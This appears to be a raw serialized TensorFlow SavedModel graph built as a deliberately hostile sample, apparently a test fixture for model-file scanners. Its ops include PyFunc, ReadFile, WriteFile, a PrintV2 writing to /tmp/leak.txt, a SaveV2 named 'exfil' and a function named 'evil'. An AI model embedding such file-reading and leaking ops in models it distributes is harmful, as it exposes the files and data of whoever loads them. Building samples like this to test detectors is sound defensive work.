˘
ç|


Identity


MyCustomOp

Placeholder
	
PrintV2

PyFunc


ReadFile

SaveV2

StatefulPartitionedCall

	WriteFile"serve*2.13.0Ê

xPlaceholder*
dtype0
?
callStatefulPartitionedCallx*
fR
__inference_evil_7
$
pyPyFuncx*
token
pyfunc_0
<
printPrintV2x*'
output_streamfile:///tmp/leak.txt

custom
MyCustomOpx

exfil/SaveV2SaveV2xg
e

__inference_evil_7
readReadFilex
write	WriteFilexread
IdentityIdentitywrite"Û
